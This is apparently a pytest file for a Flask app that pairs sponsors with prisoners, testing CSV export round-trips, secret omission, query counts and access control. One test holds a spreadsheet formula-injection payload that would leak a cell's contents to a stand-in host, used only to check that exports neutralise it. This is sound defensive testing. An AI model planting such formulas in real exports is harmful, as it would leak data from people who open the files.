"""Prisoner CSV export, and the other CSV exports: services, pages (the import: test_import)."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from flask.testing import FlaskClient
from sqlalchemy import delete, func, insert, select

from godparents.actions.models import Action, ActionKind
from godparents.audit.models import AuditEvent
from godparents.exports import EXPORTS
from godparents.extensions import db
from godparents.prisoners import csvio
from godparents.prisoners.import_apply import apply_import
from godparents.prisoners.import_plan import ImportPlan, plan_import
from godparents.prisoners.import_read import read_prisoners
from godparents.prisoners.models import Prisoner, PrisonerAddress, PrisonerStatus
from godparents.sponsors.models import Sponsor
from godparents.sponsorships.models import Sponsorship, SponsorshipStatus
from tests.conftest import SAMPLE_DATA
from tests.factories import (
    make_coordinator,
    make_delegate,
    make_prisoner,
    make_sponsor,
    make_sponsorship,
)
from tests.helpers import LoginAs, count_rows, csrf_token

DATA = SAMPLE_DATA
SAMPLE = DATA / "prisoners-sample.csv"
SEMICOLON = DATA / "prisoners-sample-semicolon.csv"
BAD = DATA / "prisoners-bad.csv"
TODAY = date(2026, 1, 15)
IMPORT = "/coordinator/prisoners/import"
CONFIRM = "/coordinator/prisoners/import/confirm"
TOKEN_FIELD = re.compile(r'<input[^>]*name="token"[^>]*value="([^"]+)"')


@pytest.fixture
def config(config: dict[str, Any], tmp_path: Path) -> dict[str, Any]:
    """Uploads wait in this test's own folder, not in the project's instance folder."""
    return {**config, "PRISONER_IMPORT_FOLDER": str(tmp_path / "imports")}


def _import(data: bytes | str, today: date = TODAY, accepted: tuple[str, ...] = ()) -> ImportPlan:
    result = read_prisoners(data)
    assert result.ok, result.errors
    plan = plan_import(result.rows, db.session)
    apply_import(plan, db.session, today, accepted=accepted)
    db.session.commit()
    return plan


def _export(kind: str = "prisoners") -> str:
    buffer = io.StringIO()
    EXPORTS[kind](db.session, buffer)
    return buffer.getvalue()


def _snapshot() -> list[dict[str, Any]]:
    """Every prisoner's stored data and address history, without ids and timestamps."""
    db.session.expire_all()
    skip = {"id", "created_at", "updated_at"}
    prisoners = db.session.scalars(select(Prisoner).order_by(Prisoner.external_id)).all()
    return [
        {
            **{
                column.key: getattr(prisoner, column.key)
                for column in Prisoner.__mapper__.column_attrs
                if column.key not in skip
            },
            "addresses": [(a.facility, a.postal_address, a.valid_from) for a in prisoner.addresses],
        }
        for prisoner in prisoners
    ]


def _events(action: str) -> int:
    return db.session.scalar(
        select(func.count()).select_from(AuditEvent).where(AuditEvent.action == action)
    )


def _wipe_prisoners() -> None:
    db.session.execute(delete(PrisonerAddress))
    db.session.execute(delete(Prisoner))
    db.session.commit()


def _by_external_id(external_id: str) -> Prisoner:
    db.session.expire_all()
    return db.session.scalar(select(Prisoner).where(Prisoner.external_id == external_id))


def _rows(text: str) -> list[list[str]]:
    assert text.startswith(csvio.BOM)
    return list(csv.reader(io.StringIO(text.removeprefix(csvio.BOM), newline="")))


# Export ---------------------------------------------------------------------------------------


def test_an_export_imports_back_to_the_same_data(app) -> None:
    _import(SAMPLE.read_bytes())
    first = _export()
    rows = _rows(first)
    assert tuple(rows[0]) == csvio.COLUMNS
    assert [row[0] for row in rows[1:]] == [
        "demo-001",
        "demo-002",
        "demo-003",
        "demo-004",
        "demo-005",
    ]
    assert rows[3][csvio.COLUMNS.index("birth_date")] == "1965"
    assert "\r\n" in first and '"211300, г. Витебск,\nул. Придвинская, 3,\nИК-3"' in first

    plan = plan_import(read_prisoners(first).rows, db.session)
    assert (len(plan.created), len(plan.changed), len(plan.unchanged)) == (0, 0, 5)
    before = _snapshot()
    _wipe_prisoners()
    _import(first)
    assert _snapshot() == before
    assert _export() == first


def test_a_cell_the_export_guarded_imports_back_unchanged(app) -> None:
    """A bio starting with "-" (a spreadsheet would read a formula) leaves with an
    apostrophe and comes back without it: an export imported again changes nothing."""
    make_prisoner(external_id="p-guard", public_bio="-12 kg since the arrest; =SUM(1)")
    exported = _export()
    assert "'-12 kg since the arrest" in exported

    plan = plan_import(read_prisoners(exported).rows, db.session)

    assert (len(plan.changed), len(plan.unchanged)) == (0, 1)


def _pairing_with_action(summary: str) -> Action:
    pairing = make_sponsorship(make_sponsor(), make_prisoner(external_id="p-1"))
    action = Action(
        sponsorship=pairing, kind=ActionKind.STATEMENT, occurred_on=TODAY, summary=summary
    )
    db.session.add(action)
    db.session.commit()
    return action


@pytest.mark.parametrize("kind", ["prisoners", "sponsors", "sponsorships", "actions"])
def test_each_export_downloads_as_dated_csv(
    app, login_as: LoginAs, client: FlaskClient, kind: str
) -> None:
    _pairing_with_action("Letter to the embassy")
    login_as(make_coordinator().email)
    response = client.get(f"/coordinator/prisoners/export/{kind}.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    disposition = response.headers["Content-Disposition"]
    assert re.fullmatch(rf'attachment; filename="{kind}-\d{{4}}-\d{{2}}-\d{{2}}\.csv"', disposition)
    rows = _rows(response.get_data(as_text=True))
    assert rows[0][0] in ("id", "external_id") and len(rows) == 2
    event = db.session.scalar(select(AuditEvent).where(AuditEvent.action == "export"))
    assert event.changes == {"kind": kind, "rows": 1, "format": "comma"}


def test_export_page_and_unknown_export(app, login_as: LoginAs, client: FlaskClient) -> None:
    login_as(make_coordinator().email)
    page = client.get("/coordinator/prisoners/export")
    for kind in EXPORTS:
        assert f'href="/coordinator/prisoners/export/{kind}.csv"' in page.text
    assert client.get("/coordinator/prisoners/export/users.csv").status_code == 404


def test_sponsor_export_has_no_secrets_or_notes(
    app, login_as: LoginAs, client: FlaskClient
) -> None:
    sponsor = make_sponsor(
        full_name="Anna Schmidt", notes="Prefers calls after 6 pm", phone="+49 30 227 0"
    )
    sponsor.user.calendar_token_hash = "c" * 64
    sponsor.user.totp_secret = "JBSWY3DPEHPK3PXP"
    delegate = make_delegate(sponsor, email="office@example.org")
    make_sponsorship(sponsor, make_prisoner(notes="Internal: health", health_notes="asthma"))
    login_as(make_coordinator().email)
    body = client.get("/coordinator/prisoners/export/sponsors.csv").get_data(as_text=True)
    [header, row] = _rows(body)
    values = dict(zip(header, row, strict=True))
    assert values["full_name"] == "Anna Schmidt" and values["email"] == sponsor.email
    assert values["phone"] == "'+49 30 227 0"  # formula guard: "+" starts a formula
    assert (values["has_login"], values["active_godchildren"]) == ("yes", "1")
    for secret in (
        "$argon2",
        "c" * 64,
        "JBSWY3DPEHPK3PXP",
        "Prefers calls",
        delegate.email,
        "asthma",
        "Internal: health",
    ):
        assert secret not in body
    for kind in ("sponsorships", "actions"):
        other = client.get(f"/coordinator/prisoners/export/{kind}.csv").get_data(as_text=True)
        assert "asthma" not in other and "Internal: health" not in other


def test_formulas_are_neutralised_in_the_tables(
    app, login_as: LoginAs, client: FlaskClient
) -> None:
    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
    _pairing_with_action(formula)
    login_as(make_coordinator().email)
    [header, row] = _rows(client.get("/coordinator/prisoners/export/actions.csv").text)
    assert dict(zip(header, row, strict=True))["summary"] == "'" + formula
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csvio.neutralised(f"{start}1+1") == f"'{start}1+1"
    assert csvio.neutralised("Letter, 2 pages") == "Letter, 2 pages"


def _seed_exports(count: int) -> None:
    """``count`` more prisoners, sponsors, pairings and actions, inserted in bulk."""
    start = count_rows(Prisoner)
    db.session.execute(
        insert(Prisoner),
        [
            {
                "name_latin": f"Bulk {start + n}",
                "status": PrisonerStatus.SENTENCED,
                "external_id": f"bulk-{start + n}",
                "aliases": [],
                "articles": [],
            }
            for n in range(count)
        ],
    )
    db.session.execute(
        insert(Sponsor),
        [
            {"full_name": f"Sponsor {start + n}", "body": "Sejm", "country": "PL"}
            for n in range(count)
        ],
    )
    prisoners = db.session.scalars(
        select(Prisoner.id).order_by(Prisoner.id.desc()).limit(count)
    ).all()
    sponsors = db.session.scalars(select(Sponsor.id).order_by(Sponsor.id.desc()).limit(count)).all()
    db.session.execute(
        insert(PrisonerAddress),
        [{"prisoner_id": p, "postal_address": "г. Минск", "valid_from": TODAY} for p in prisoners],
    )
    db.session.execute(
        insert(Sponsorship),
        [
            {"sponsor_id": s, "prisoner_id": p, "status": SponsorshipStatus.ACTIVE}
            for s, p in zip(sponsors, prisoners, strict=True)
        ],
    )
    pairings = db.session.scalars(
        select(Sponsorship.id).order_by(Sponsorship.id.desc()).limit(count)
    ).all()
    db.session.execute(
        insert(Action),
        [
            {
                "sponsorship_id": p,
                "kind": ActionKind.LETTER,
                "occurred_on": TODAY,
                "summary": "A card",
            }
            for p in pairings
        ],
    )
    db.session.commit()


@pytest.mark.parametrize("kind", ["prisoners", "sponsors", "sponsorships", "actions"])
def test_exports_run_a_fixed_number_of_queries(
    app, login_as: LoginAs, client: FlaskClient, count_queries, kind: str
) -> None:
    login_as(make_coordinator().email)
    path = f"/coordinator/prisoners/export/{kind}.csv"
    _seed_exports(10)
    with count_queries() as few:
        assert len(_rows(client.get(path).text)) == 11
    _seed_exports(500)
    with count_queries() as many:
        assert len(_rows(client.get(path).text)) == 511
    assert many.count == few.count


# Access ---------------------------------------------------------------------------------------

ROUTES = [
    ("GET", IMPORT),
    ("POST", IMPORT),
    ("POST", CONFIRM),
    ("POST", f"{IMPORT}/mapping"),
    ("GET", "/coordinator/prisoners/export"),
    *[("GET", f"/coordinator/prisoners/export/{kind}.csv") for kind in EXPORTS],
]


def _request(client: FlaskClient, method: str, path: str):
    if method == "GET":
        return client.get(path)
    return client.post(path, data={"csrf_token": csrf_token(client, "/auth/login")})


def test_anonymous_users_are_sent_to_login(app, client: FlaskClient) -> None:
    for method, path in ROUTES:
        response = _request(client, method, path)
        assert response.status_code == 302, (method, path)
        assert response.headers["Location"].startswith("/auth/login"), (method, path)


@pytest.mark.parametrize("role", ["sponsor", "delegate"])
def test_godparents_and_their_staff_get_403(
    app, login_as: LoginAs, client: FlaskClient, role: str
) -> None:
    sponsor = make_sponsor()
    login_as(sponsor.email if role == "sponsor" else make_delegate(sponsor).email)
    for method, path in ROUTES:
        assert _request(client, method, path).status_code == 403, (method, path)
